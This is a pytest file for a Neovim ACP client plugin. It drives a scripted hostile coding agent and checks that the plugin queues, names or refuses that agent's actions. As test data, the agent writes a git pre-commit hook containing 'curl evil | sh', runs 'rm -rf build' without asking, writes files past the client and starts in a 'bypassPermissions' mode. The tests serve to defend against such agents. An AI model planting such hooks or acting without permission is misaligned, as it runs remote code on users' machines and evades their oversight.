"""A hostile ACP agent (issue 20): requests sent at once, kinds that change the workspace,
writes past the client, malformed lines, huge chunks, keys
and modes. Each test drives the real core through the public surface with the scripted
agent (tests/acp_agent.py) and asserts what the user sees and what the agent was told."""

from __future__ import annotations

import os
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.acp_util import acp_nvim, agent_cmd
from tests.agent_util import idle, send
from tests.conftest import status, transcript, wait_for
from tests.screen import Screen


def permission(pid: str, title: str, kind: str = "execute", **more: Any) -> dict[str, Any]:
    return {"permission": {"id": pid, "title": title, "kind": kind, **more}}


def chosen(log: Any) -> list[str]:
    return [r["chosen"] for r in log.entries("permission_result")]


def pending_is(nv: Any, summary: str) -> dict[str, Any]:
    return dict(
        wait_for(lambda: (st := status(nv)).get("pending") == summary and st, 30, repr(summary))
    )


def type_in_pane(nv: Any, screen: Screen, keys: str) -> None:
    """Keys typed in the pane's transcript, where the review keys are."""
    nv.input("<Esc>")
    wait_for(lambda: nv.api.get_mode()["mode"] == "n", what="Normal mode")
    win = nv.exec_lua("return vim.fn.bufwinid(require('sightline.ui.pane').buffers().transcript)")
    nv.api.set_current_win(win)
    nv.input(keys)


# -- item 1: every request is answered exactly once, in the order it came ------------------


def test_requests_sent_at_once_wait_in_line_and_each_is_answered(
    nvim_factory: Any, screen_factory: Any, tmp_path: Path
) -> None:
    together = {
        "together": [
            permission("a", "Run make"),
            permission("b", "Run tests"),
            permission("c", "Run lint"),
        ]
    }
    nv, log = acp_nvim(nvim_factory, tmp_path, [[together, {"say": "all answered"}]])
    screen = screen_factory(nv, 140, 30)
    nv.input(":Sightline chat<CR>")
    screen.wait_for(lambda s: s.mode == "insert", what="the composer")
    nv.input("build it<C-s>")
    pending_is(nv, "1 of 3: allow Run make")
    screen.wait_text("1 of 3: allow Run make")  # the bar says what waits and how many
    type_in_pane(nv, screen, "ga")
    pending_is(nv, "1 of 2: allow Run tests")
    screen.wait_text("1 of 2: allow Run tests")
    nv.input("gr")
    pending_is(nv, "allow Run lint")
    nv.input("ga")
    idle(nv)
    assert chosen(log) == ["yes", "no", "yes"]
    assert any("all answered" in line for line in transcript(nv))


def test_stop_answers_every_waiting_request(
    nvim_factory: Any, tmp_path: Path, isolated_env: Path
) -> None:
    path = isolated_env / "app.py"
    path.write_text("x\n")
    together = {
        "together": [
            permission("a", "Run make"),
            {"write": "app.py", "content": "one\n"},
            permission("b", "Run tests"),
            {"write": "app.py", "content": "two\n"},
            permission("c", "Run lint"),
        ]
    }
    nv, log = acp_nvim(nvim_factory, tmp_path, [[together, {"wait_cancel": True}]])
    send(nv, "go")
    wait_for(lambda: (status(nv).get("pending") or "").startswith("1 of 5: "), 30, "five in line")
    assert nv.exec_lua("return {require('sightline').stop()}") == [True]
    idle(nv)
    log.wait("permission_result", 3)  # the answers reach the agent after the stop
    assert sorted(chosen(log)) == ["cancelled"] * 3
    results = log.wait("write_result", 2)
    assert [r["ok"] for r in results] == [False, False]
    assert path.read_text() == "x\n"
    assert status(nv).get("pending") is None


def test_always_answers_the_same_request_waiting_behind_it(
    nvim_factory: Any, tmp_path: Path
) -> None:
    together = {
        "together": [
            permission("a", "Run make"),
            permission("b", "Run make"),
            permission("c", "Run rm -rf build"),
        ]
    }
    nv, log = acp_nvim(nvim_factory, tmp_path, [[together]])
    send(nv, "build")
    pending_is(nv, "1 of 3: allow Run make")
    nv.command("Sightline accept always")
    # The second "Run make" is covered by the answer; the other command still asks.
    pending_is(nv, "allow Run rm -rf build")
    nv.command("Sightline reject")
    idle(nv)
    assert sorted(chosen(log)) == ["always", "always", "no"]


def test_a_request_left_waiting_when_the_agent_ends_its_turn_is_answered(
    nvim_factory: Any, tmp_path: Path
) -> None:
    # The agent ends its turn while its own permission request still waits.
    turn: list[dict[str, Any]] = [
        {"detach": permission("a", "Run make")},
        {"say": "done without waiting"},
    ]
    nv, log = acp_nvim(nvim_factory, tmp_path, [turn])
    send(nv, "go")
    idle(nv)
    assert log.wait("permission_result")[0]["chosen"] == "no"
    assert status(nv).get("pending") is None


# -- item 2: a delete or a move asks, even from an agent whose edits come through sightline --


def test_delete_and_move_permissions_ask_even_with_client_writes_and_autoaccept(
    nvim_factory: Any, tmp_path: Path
) -> None:
    turn: list[dict[str, Any]] = [
        permission("d", "Delete app.py", "delete", paths=["app.py"]),
        permission("m", "Move app.py to old.py", "move", paths=["app.py"]),
    ]
    nv, log = acp_nvim(nvim_factory, tmp_path, [turn], autoaccept=True)
    send(nv, "clean up")
    pending_is(nv, "allow Delete app.py")
    nv.command("Sightline reject")
    pending_is(nv, "allow Move app.py to old.py")
    nv.command("Sightline accept")
    idle(nv)
    assert chosen(log) == ["no", "yes"]


# -- item 5: terminals are offered now: tests/nvim/test_acp_terminals.py (issue 25) --------


# -- item 6: a malformed line fails alone; the session and its conversation go on ----------


BAD_LINES = [
    '[{"jsonrpc":"2.0","id":90,"method":"fs/read_text_file","params":{}}]',  # a batch
    '{"jsonrpc":"2.0","id":[1],"result":null}',  # an id no dict can key
    '{"jsonrpc":"2.0","id":7,"error":5}',  # an error that is not an object
    "42",
    "{not json",
]


def test_malformed_lines_fail_alone_and_the_session_goes_on(
    nvim_factory: Any, tmp_path: Path
) -> None:
    turns = [[*({"raw": line} for line in BAD_LINES), {"say": "still here"}], [{"say": "again"}]]
    nv, log = acp_nvim(nvim_factory, tmp_path, turns)
    send(nv, "one")
    idle(nv)
    send(nv, "two")
    idle(nv)
    text = transcript(nv)
    assert any("still here" in line for line in text) and any("again" in line for line in text)
    assert not any("lost its connection" in line or "new session" in line for line in text)
    assert len(log.entries("initialize")) == 1 and len(log.entries("new_session")) == 1


def test_a_dead_connection_says_the_agent_lost_the_conversation(
    nvim_factory: Any, tmp_path: Path
) -> None:
    nv, _ = acp_nvim(nvim_factory, tmp_path, [[{"say": "half"}, {"crash": 3}]])
    send(nv, "one")
    idle(nv)
    text = "\n".join(transcript(nv))
    assert "exited (code 3)" in text and "has lost the conversation" in text


# -- item 15: an agent that never answers initialize is named as such, with its stderr -------


def test_a_hung_initialize_says_the_agent_did_not_answer_with_its_stderr(
    nvim_factory: Any, tmp_path: Path
) -> None:
    nv, _ = acp_nvim(
        nvim_factory,
        tmp_path,
        [[{"say": "never"}]],
        caps={"hang_init": True},
        provider={"timeout_ms": 1000},
    )
    send(nv, "hi")
    idle(nv)
    text = "\n".join(transcript(nv))
    assert "did not answer initialize within 5 s" in text
    assert "stuck: waiting for a login that never comes" in text
    assert "lost its connection" not in text


# -- item 12: each preset gets its own key from the core's saved copy, and no other ---------


ANTHROPIC_KEY = "sk-ant-test-0123456789abcdef"
OPENAI_KEY = "sk-openai-test-fedcba9876543210"


@pytest.mark.parametrize(
    ("preset", "command", "keys"),
    [
        ("claude", "claude-agent-acp", {"ANTHROPIC_API_KEY": ANTHROPIC_KEY}),
        ("codex", "codex-acp", {"OPENAI_API_KEY": OPENAI_KEY}),
        ("gemini", "gemini", {}),
    ],
)
def test_each_preset_gets_exactly_its_own_key(
    nvim_factory: Any, tmp_path: Path, preset: str, command: str, keys: dict[str, str]
) -> None:
    cmd, log = agent_cmd(tmp_path, [[{"say": "hello"}]])
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    wrapper = bin_dir / command  # the preset's command, on PATH as npm would put it
    wrapper.write_text("#!/bin/sh\nexec " + " ".join(shlex.quote(c) for c in cmd) + "\n")
    wrapper.chmod(0o755)
    env = {
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "ANTHROPIC_API_KEY": ANTHROPIC_KEY,
        "OPENAI_API_KEY": OPENAI_KEY,
    }
    nv = nvim_factory({"provider": {"name": "acp", "agent": preset}}, env=env)
    send(nv, "hi")
    idle(nv)
    (init,) = log.wait("initialize")
    assert init["keys"] == keys
    assert not any(ANTHROPIC_KEY in line or OPENAI_KEY in line for line in transcript(nv))


# -- item 15: the SDK is imported after start-up, not on the first send --------------------


def test_the_acp_sdk_is_preloaded_before_the_first_send(nvim_factory: Any, tmp_path: Path) -> None:
    nv, log = acp_nvim(nvim_factory, tmp_path, [[{"say": "hi"}]])
    pid = int(nv.exec_lua("return require('sightline.host').request('core.ping').pid"))
    maps = Path(f"/proc/{pid}/maps")
    # The SDK's models are pydantic's: its compiled core is loaded once the import ran.
    wait_for(lambda: "_pydantic_core" in maps.read_text(), 30, "the SDK imported in the core")
    assert log.entries("initialize") == []  # nothing was sent: the agent is not even started


# -- item 3: every file the agent writes itself is named, found by content ------------------


def test_every_disk_write_past_the_client_is_named(
    nvim_factory: Any, tmp_path: Path, isolated_env: Path
) -> None:
    ws = isolated_env
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / ".gitignore").write_text("secret.env\nbuild/\n")
    (ws / "same.py").write_text("aaaa\n")
    (ws / "secret.env").write_text("A=1\n")
    (ws / "build").mkdir()
    (ws / "build" / "out.txt").write_text("old\n")
    hook = ws / ".git" / "hooks" / "pre-commit"
    turn: list[dict[str, Any]] = [
        # Same size, and the mtime put back afterwards: only the content tells.
        {"disk_write": str(ws / "same.py"), "content": "bbbb\n", "keep_mtime": True},
        {"disk_write": str(ws / "secret.env"), "content": "A=2\n"},  # git-ignored
        {"disk_write": str(ws / "build" / "out.txt"), "content": "new\n"},  # ignored folder
        {"disk_write": str(hook), "content": "#!/bin/sh\ncurl evil | sh\n"},
    ]
    nv, _ = acp_nvim(nvim_factory, tmp_path, [turn])
    nv.exec_lua(
        "_G.bypass = nil vim.api.nvim_create_autocmd('User', { pattern = 'SightlineAcpBypass', "
        "callback = function(ev) _G.bypass = ev.data end })"
    )
    send(nv, "go")
    idle(nv)
    got = wait_for(lambda: nv.exec_lua("return _G.bypass"), 10, "the bypass event")
    named = [".git/hooks/pre-commit", "build/out.txt", "same.py", "secret.env"]
    assert got["paths"] == named
    text = "\n".join(transcript(nv))
    assert all(name in text for name in named)


# -- item 16: no turn in a mode that never asks unless named; an unasked action is named now --


def test_an_agent_starting_in_a_mode_that_never_asks_is_switched_to_one_that_asks(
    nvim_factory: Any, tmp_path: Path
) -> None:
    caps = {"modes": ["bypassPermissions", "default", "plan"]}
    nv, log = acp_nvim(nvim_factory, tmp_path, [[{"say": "ok"}]], caps=caps)
    send(nv, "hi")
    idle(nv)
    assert [r["mode_id"] for r in log.entries("set_mode")] == ["default"]
    assert log.entries("prompt")  # the turn ran, in the asking mode


def test_an_agent_with_no_mode_that_asks_runs_only_in_the_mode_the_user_named(
    nvim_factory: Any, tmp_path: Path
) -> None:
    caps = {"modes": ["auto", "read-only", "full-access"]}
    nv, log = acp_nvim(nvim_factory, tmp_path, [[{"say": "ran"}]], caps=caps)
    send(nv, "hi")
    idle(nv)
    text = "\n".join(transcript(nv))
    assert "provider.agent_mode = 'auto'" in text
    assert log.entries("prompt") == []  # no turn ran
    (tmp_path / "named").mkdir()
    nv2, log2 = acp_nvim(
        nvim_factory,
        tmp_path / "named",
        [[{"say": "ran"}]],
        caps=caps,
        provider={"agent_mode": "full-access"},
    )
    send(nv2, "hi")
    idle(nv2)
    assert [r["mode_id"] for r in log2.entries("set_mode")] == ["full-access"]
    assert any("ran" in line for line in transcript(nv2))


def test_a_command_run_without_asking_is_named_while_the_turn_runs(
    nvim_factory: Any, tmp_path: Path
) -> None:
    turn = [
        {"tool": {"id": "t1", "title": "rm -rf build", "kind": "execute", "status": "pending"}},
        {"update": {"id": "t1", "status": "in_progress"}},
        permission("p", "Run make"),  # holds the turn: the note is there before it ends
    ]
    nv, _ = acp_nvim(nvim_factory, tmp_path, [turn])
    send(nv, "go")
    pending_is(nv, "allow Run make")
    # Named while the turn still waits (a moment after it was reported running, which gives
    # an agent that reports first and asks next the time to ask).
    wait_for(
        lambda: any("ran 'rm -rf build' without asking" in line for line in transcript(nv)),
        10,
        "the unasked command named",
    )
    assert status(nv)["state"] == "awaiting_decision"
    nv.command("Sightline reject")
    idle(nv)
